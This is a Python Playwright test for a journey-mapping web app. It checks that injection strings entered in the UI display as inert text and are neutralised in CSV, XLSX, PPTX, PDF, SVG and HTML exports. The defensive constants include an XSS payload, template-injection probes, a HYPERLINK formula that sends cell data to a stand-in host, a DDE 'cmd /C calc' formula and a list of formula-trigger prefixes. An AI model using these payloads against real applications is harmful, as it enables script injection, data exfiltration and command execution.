"""Texts that break other software stand on pages and in files as they are, and never run."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from playwright.sync_api import Browser, Page, expect
from pptx import Presentation
from pypdf import PdfReader
from sqlalchemy import update

from tests.browser.walking import OVERFLOW, Walker, walkers
from tests.studio_fixtures import (
    SLUG,
    Studio,
    built_front_end,
    demo_shop,
    served,
    studio,
)
from waypost.documents.account_tables import UserRow
from waypost.exports.html.hyphenation import MAY_BREAK

__all__ = ["built_front_end", "demo_shop", "served", "studio"]

pytestmark = pytest.mark.browser

SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(2)>\"'`&amp;"
TEMPLATE = "{{7*7}}${7*7}<%= 7*7 %>#{7*7}%s%n{0}"
TURNED = "\u202eשלום עולם\u2066 مرحبا\u200f abc"
EMOJI = "👩‍👩‍👧‍👦🏳️‍🌈 Z̸a̶l̷g̵o̴ ﷽ ｆｕｌｌ"
LONG = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft" * 2
NULLS = "NULL"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"Klick")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+49 30 1234567"
STAGE, STEPS, LANE_TEXTS = LONG, (SCRIPT, TURNED), (FORMULA, EMOJI, TEMPLATE, COMMAND)
ARMED = ("=", "+", "-", "@", "\t", "\r")


def test_naughty_texts_stand_everywhere_as_they_are_and_run_nowhere(
    browser: Browser, studio: Studio, served: str
):
    with studio.site.database.writing() as session:
        session.execute(update(UserRow).values(language="de"))
    with walkers(browser) as people:
        owner, guest = people.come(reduced_motion="reduce"), people.come()
        for one in (owner, guest):
            one.forbid_dialogs()
        owner.page.goto(served + studio.enter_link())
        name_the_workspace(owner, served)
        make_persona_and_segment(owner, served)
        draw_the_map(owner, served)
        files = export(owner)
        link, embed = share(owner)
        look_around(owner, served)
        look_as_guest(guest, link, embed)
        assert [one.scripts_run for one in (owner, guest)] == [[], []]
    in_sheets(files)
    in_slides_and_pdf(files)


def fits(page: Page) -> None:
    """No text has made the page wider than its window, on a desk or in a hand."""
    for width in (390, 1440):
        page.set_viewport_size({"width": width, "height": 900})
        page.wait_for_timeout(80)
        assert page.evaluate(OVERFLOW) <= 0, f"{page.url} at {width}"


def name_the_workspace(owner: Walker, address: str) -> None:
    page = owner.page
    page.goto(f"{address}/w/{SLUG}/settings/workspace")
    page.get_by_label("Name", exact=True).fill(SCRIPT)
    page.get_by_role("button", name="Speichern").first.click()
    page.goto(f"{address}/w/{SLUG}")
    expect(page.locator("body")).to_contain_text(SCRIPT)
    fits(page)


def make_persona_and_segment(owner: Walker, address: str) -> None:
    page = owner.page
    page.goto(f"{address}/w/{SLUG}/personas/new")
    page.get_by_label("Name der Gruppe").fill(SCRIPT)
    page.get_by_role("button", name="Speichern").click()
    expect(page.locator("h1")).to_contain_text(SCRIPT)
    fits(page)
    page.goto(f"{address}/w/{SLUG}/segments/new?rule=channel%20=%20'store'")
    page.get_by_label("Name", exact=True).fill(LONG[:118])
    page.get_by_role("button", name="Speichern").first.click()
    expect(page.get_by_role("link", name=LONG[:118])).to_be_visible()
    fits(page)


def draw_the_map(owner: Walker, address: str) -> None:
    page = owner.page
    page.goto(f"{address}/w/{SLUG}/maps/new")
    page.get_by_label("Titel, wie ihn die Kundin sagen würde").fill(SCRIPT)
    page.locator("input[value=blank]").check()
    page.get_by_role("button", name="Karte anlegen").click()
    owner.opened_map()
    page.locator(".tools").get_by_role("button", name="Schritt", exact=True).click()
    owner.write(STEPS[1])
    owner.press("Enter")
    rename(owner, page.locator("[data-kind=steps]").first, STEPS[0])
    rename(owner, page.locator("[data-kind=stages]").first, STAGE)
    cells = page.locator(".lane-gaps [data-kind=cells], .lane-actions [data-kind=cells]")
    for number, text in enumerate((*LANE_TEXTS, PLUS, NULLS)):
        cell = cells.nth(number % cells.count())
        cell.focus()
        owner.press("Enter")
        owner.write(text)
        owner.press("Enter")
        expect(page.locator("[data-kind=cards]")).to_have_count(number + 1)
    page.locator("[data-kind=steps]").first.click()
    page.get_by_role("tab", name="Kommentare").click()
    page.get_by_label("Kommentar schreiben").fill(SCRIPT)
    page.get_by_role("button", name="Kommentieren").click()
    expect(page.locator(".thread")).to_contain_text(SCRIPT)
    expect(page.locator(".saved")).to_contain_text("Gespeichert")
    page.reload()
    owner.opened_map()
    for text in (*LANE_TEXTS, PLUS, NULLS):
        expect(page.locator("[data-kind=cards]").filter(has_text=text)).to_have_count(1)
    fits(page)


def rename(owner: Walker, head, text: str) -> None:
    head.focus()
    owner.press("F2", "Control+a")
    owner.write(text)
    owner.press("Enter")
    expect(head.locator(".name")).to_have_text(text)


def export(owner: Walker) -> dict[str, bytes]:
    page = owner.page
    page.get_by_role("button", name="Ausgeben").click()
    files = {}
    for suffix in ("pdf", "pptx", "xlsx", "csv", "html", "svg"):
        with page.expect_download() as loaded:
            page.locator(f"dialog a[href*='export.{suffix}']").click()
        assert re.fullmatch(r"[^/\\<>:\"|?*\x00-\x1f]+", loaded.value.suggested_filename)
        files[suffix] = Path(loaded.value.path()).read_bytes()
    page.keyboard.press("Escape")
    return files


def share(owner: Walker) -> tuple[str, str]:
    page = owner.page
    page.goto(f"{page.url.split('#')[0]}/sharing")
    fits(page)
    made = []
    for origin in ("", "https://intranet.example"):
        page.get_by_label("Für wen").fill(SCRIPT[:100])
        if origin:
            page.locator("details.share-more summary").click()
            page.locator("input[name=origins]").fill(origin)
        page.get_by_role("button", name="Link anlegen").click()
        made.append(page.get_by_label("Der Link", exact=True).input_value())
    fits(page)
    return made[0], made[1].replace("/s/", "/embed/")


def look_around(owner: Walker, address: str) -> None:
    """Where names of maps, personas and people are told again."""
    page = owner.page
    for place in (
        "",
        "/maps",
        "/activity",
        "/personas",
        "/segments",
        "/notices",
        "/settings/audit",
        "/settings/workspace",
        "/settings/members",
        "/opportunities",
        "/journeys",
    ):
        page.goto(f"{address}/w/{SLUG}{place}")
        fits(page)


def look_as_guest(guest: Walker, link: str, embed: str) -> None:
    page = guest.page
    page.goto(link)
    frame = page.frame_locator("iframe.shared-frame")
    expect(frame.get_by_text(EMOJI).first).to_be_attached()
    fits(page)
    page.goto(embed)
    expect(page.get_by_text(EMOJI).first).to_be_attached()
    assert page.locator("img[src=x]").count() == 0
    fits(page)


def in_sheets(files: dict[str, bytes]) -> None:
    """A spreadsheet runs none of them: no cell of a table begins like a formula."""
    rows = csv.reader(io.StringIO(files["csv"].decode("utf-8-sig")), delimiter=delimiter(files))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(ARMED)] == []
    assert any(FORMULA in cell for cell in cells)
    assert any(EMOJI in cell for cell in cells)
    book = load_workbook(io.BytesIO(files["xlsx"]))
    held = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in held if cell.data_type == "f"] == []
    assert any(FORMULA in str(cell.value) for cell in held)
    assert any(TURNED in str(cell.value) for cell in held)


def delimiter(files: dict[str, bytes]) -> str:
    head = files["csv"].decode("utf-8-sig").splitlines()[0]
    return max(";,\t", key=head.count)


def in_slides_and_pdf(files: dict[str, bytes]) -> None:
    said = told_on_slides(files["pptx"])
    assert FORMULA in said
    assert EMOJI in said
    assert "<script>alert(1)</script>" in said
    for name in zipfile.ZipFile(io.BytesIO(files["pptx"])).namelist():
        assert not name.endswith(("vbaProject.bin", ".exe", ".vbs"))
    pages = PdfReader(io.BytesIO(files["pdf"])).pages
    text = "".join("".join(page.extract_text().split()) for page in pages)
    text = text.replace(MAY_BREAK, "")
    assert "<script>alert(1)</script>" in text
    assert b"/JavaScript" not in files["pdf"]
    assert "=HYPERLINK(" in text
    for name in ("svg", "html"):
        assert b"<script>alert(1)" not in files[name]
        assert b"<img src=x" not in files[name]


def told_on_slides(content: bytes) -> str:
    """Every text of the slides, those in tables too."""
    slides = Presentation(io.BytesIO(content)).slides
    shapes = [one for slide in slides for one in slide.shapes]
    texts = [one.text_frame.text for one in shapes if one.has_text_frame]
    tables = [one.table for one in shapes if one.has_table]
    return " ".join(texts + [cell.text for one in tables for cell in one.iter_cells()])
